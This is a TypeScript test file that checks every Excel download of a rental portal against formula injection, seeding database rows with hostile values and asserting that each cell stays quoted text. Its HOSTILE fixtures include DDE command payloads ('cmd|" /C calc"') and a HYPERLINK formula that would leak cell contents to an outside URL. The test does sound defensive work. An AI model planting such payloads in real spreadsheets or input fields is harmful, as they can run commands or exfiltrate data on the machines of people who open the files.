// Every Excel download, opened and read cell by cell, with exceljs and with LibreOffice
// Calc (as shown to a Dutch office, every cell as exceljs reads it, which the lists'
// tests hold to the JSON answers): text users or the supplier typed
// that starts like a formula (=, +, -, @, tab, carriage return) reaches the sheet as text
// as typed, in a text cell with the quotePrefix style (Excel's own "this is text" mark),
// and no cell of any file is a formula (files/xlsx-writer.ts "Formulas"). A download
// added later needs its hostile rows here.
import { todayIso } from '@portal/shared/rules';
import {
  MANAGEMENT_EXCEL_PATH,
  ZManagementExcelRequest,
  type TManagementDocumentType,
} from '@portal/shared/contract/management';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRentalsTestContext, idOf } from '../testing/rental-fixtures.js';
import { expectedRows, showInLibreOffice } from '../testing/libreoffice.js';
import { cellsWithStyle, readSheet, sheetXml } from '../testing/read-sheet.js';
import type { TTestContext } from '../testing/test-context.js';
import { CONTRACT_EXPORTS } from '../testing/whole-contract.js';

let t: TTestContext;
let anna: string;
let topLocation: number;

const HOSTILE = {
  location: '=HYPERLINK("https://example.invalid/?"&A1,"Klik")',
  contact: '@SUM(1+1)*cmd|" /C calc"!A0',
  endUser: '-2+3+cmd|" /C calc"!A0',
  room: '+31 6 12345678',
  client: '=1+1',
  brand: '\tmerk',
  type: '\rtype',
  depotName: '=2+5',
  warehouse: '=3+4',
};

/** A body of each download that lists the rows made hostile below. */
const DOWNLOADS: Record<string, object> = {
  '/customer/rentals/cases/excel': { tabType: 'active', filters: {} },
  '/customer/requests/overview/excel': { tabType: 'open' },
  '/customer/articles/overview/excel': { tabType: 'location', filters: {} },
  '/customer/depot/cases/excel': { tabType: 'pending' },
};

/** The management download's PDFs (a repair's slip, an invoice): no rows of the lists. */
type TManagementPdf = 'repair' | 'invoice';
const MANAGEMENT_PDFS: readonly TManagementPdf[] = ['repair', 'invoice'];

/** A body of each spreadsheet of the management download (one path, by documentType). */
function managementDownloads(): Record<Exclude<TManagementDocumentType, TManagementPdf>, object> {
  const today = todayIso();
  return {
    rental: { documentType: 'rental', tabType: 'DELIVER' },
    activerental: { documentType: 'activerental' },
    'rental-category': { documentType: 'rental-category', tabType: 'ACTIVE' },
    rentaldate: { documentType: 'rentaldate', filters: { date: today } },
    repairs: { documentType: 'repairs' },
    depot: { documentType: 'depot' },
    'depot-category': { documentType: 'depot-category' },
    depotdate: { documentType: 'depotdate', filters: { date: today } },
    'products location': { documentType: 'products location' },
    'products depot': { documentType: 'products depot' },
    rentalcost: {
      documentType: 'rentalcost',
      filters: {
        fromMonth: 1,
        fromYear: Number(today.slice(0, 4)) - 1,
        toMonth: 12,
        toYear: Number(today.slice(0, 4)),
        locationId: topLocation,
        groupByLocation: true,
        groupByDepartment: true,
      },
    },
    invoices: { documentType: 'invoices' },
  };
}

/** Every spreadsheet: a name, its path and (once the data is there) its body. */
const SPREADSHEETS: [string, string, () => object][] = [
  ...Object.entries(DOWNLOADS).map(([path, body]): [string, string, () => object] => [
    path,
    path,
    () => body,
  ]),
  ...Object.keys(managementDownloads()).map((type): [string, string, () => object] => [
    `${MANAGEMENT_EXCEL_PATH} ${type}`,
    MANAGEMENT_EXCEL_PATH,
    () => managementDownloads()[type as keyof ReturnType<typeof managementDownloads>],
  ]),
];

beforeAll(async () => {
  const context = await createRentalsTestContext();
  t = context.t;
  anna = context.tokens.anna;
  const org = "(SELECT id FROM organisations WHERE name = 'Zorggroep De Linde')";
  await t.db.query(`UPDATE locations SET name = $1 WHERE organisation_id = ${org}`, [
    HOSTILE.location,
  ]);
  await t.db.query(`UPDATE contacts SET name = $1 WHERE organisation_id = ${org}`, [
    HOSTILE.contact,
  ]);
  await t.db.query(
    `UPDATE rental_cases SET end_user = $1, room = $2, general_use = false WHERE organisation_id = ${org}`,
    [HOSTILE.endUser, HOSTILE.room],
  );
  await t.db.query(
    `UPDATE products SET client_name = $1, product_brand = $2, product_type = $3
     WHERE organisation_id = ${org}`,
    [HOSTILE.client, HOSTILE.brand, HOSTILE.type],
  );
  await t.db.query(`UPDATE depot_cases SET name = $1 WHERE organisation_id = ${org}`, [
    HOSTILE.depotName,
  ]);
  // why: 'Depot op datum' names the depot a product was in (warehouses are the supplier's).
  await t.db.query('UPDATE warehouses SET name = $1', [HOSTILE.warehouse]);
  topLocation = await idOf(
    t.db,
    `SELECT id FROM locations WHERE organisation_id = ${org} AND parent_id IS NULL ORDER BY id LIMIT 1`,
  );
});
afterAll(() => t.close());

const FORMULA_START = /^[=+\-@\t\r]/;

/** Every file downloaded above, for one LibreOffice run at the end. */
const downloaded = new Map<string, Buffer>();

/** styles.xml of a file of the portal's writer (stored before the sheet, deflated). */
async function stylesXml(payload: Buffer): Promise<string> {
  const { inflateRawSync } = await import('node:zlib');
  const name = Buffer.from('xl/styles.xml');
  return inflateRawSync(payload.subarray(payload.indexOf(name) + name.length)).toString();
}

/** The index of the quotePrefix style among the file's cell styles. */
async function quoteStyle(payload: Buffer): Promise<number> {
  const cellXfs = /<cellXfs[^>]*>(.*?)<\/cellXfs>/.exec(await stylesXml(payload))?.[1] ?? '';
  return [...cellXfs.matchAll(/<xf [^>]*>/g)].findIndex(([xf]) => xf.includes('quotePrefix="1"'));
}

describe('formula injection in every Excel download', () => {
  it('knows every download of the contract', () => {
    const paths = CONTRACT_EXPORTS.map(({ path }) => path);
    expect(paths.filter((path) => !(path in DOWNLOADS) && path !== MANAGEMENT_EXCEL_PATH)).toEqual(
      [],
    );
  });

  it('knows every spreadsheet of the management download', () => {
    const types = ZManagementExcelRequest.options.map((option) => option.shape.documentType.value);
    const spreadsheets = types.filter((type) => !(MANAGEMENT_PDFS as string[]).includes(type));
    expect(Object.keys(managementDownloads()).sort()).toEqual(spreadsheets.sort());
  });

  it.each(SPREADSHEETS)(
    '%s writes no formula, and text that starts like one as quoted text',
    async (name, path, body) => {
      const answer = await t.app.inject({
        method: 'POST',
        url: `/Rest/Pwa${path}`,
        headers: { 'x-auth-token': anna },
        payload: body(),
      });
      expect(answer.statusCode, answer.payload.slice(0, 300)).toBe(200);
      downloaded.set(name, answer.rawPayload);
      const { rows } = await readSheet(answer.rawPayload);
      const cells = rows.flat();
      expect(
        cells.filter((cell) => typeof cell === 'object' && cell !== null && 'formula' in cell),
      ).toEqual([]);
      const xml = sheetXml(answer.rawPayload);
      expect(xml).not.toMatch(/<f[ >]/);
      const styleOfQuoted = /<xf [^>]*quotePrefix="1"/;
      const texts = cells.filter((cell): cell is string => typeof cell === 'string');
      const formulaLike = texts.filter((text) => FORMULA_START.test(text));
      // why: the hostile rows must be in the file as typed, or the checks prove nothing.
      const hostile = formulaLike.filter((text) =>
        Object.values(HOSTILE).some(
          (value) => text.includes(value.replace(/[\t\r]/g, '').trim()) || text === value,
        ),
      );
      expect(hostile.length, `hostile cells in ${name}`).toBeGreaterThan(0);
      expect(styleOfQuoted.test(await stylesXml(answer.rawPayload))).toBe(true);
      const quoted = cellsWithStyle(xml, ` s="${await quoteStyle(answer.rawPayload)}"`);
      expect(formulaLike.filter((text) => !quoted.includes(text))).toEqual([]);
      expect(
        texts.filter((text) => text.startsWith("'") && FORMULA_START.test(text.slice(1))),
      ).toEqual([]);
    },
  );

  // why: one LibreOffice start-up for every file (~5-10 s on a quiet machine, more when busy).
  it(
    'LibreOffice shows every cell of every file as it is, the quoted text without an apostrophe',
    { timeout: 240_000 },
    async () => {
      expect(downloaded.size).toBe(SPREADSHEETS.length);
      const shown = showInLibreOffice(downloaded);
      for (const [name, payload] of downloaded) {
        const want = await expectedRows(payload);
        const got = (shown.get(name) ?? []).map((row) => row.slice(0, want[0]?.length ?? 0));
        expect(got.length, name).toBe(want.length);
        expect(got, name).toEqual(want);
        expect(
          got.flat().filter((cell) => /^'[=+\-@]/.test(cell)),
          name,
        ).toEqual([]);
      }
    },
  );
});
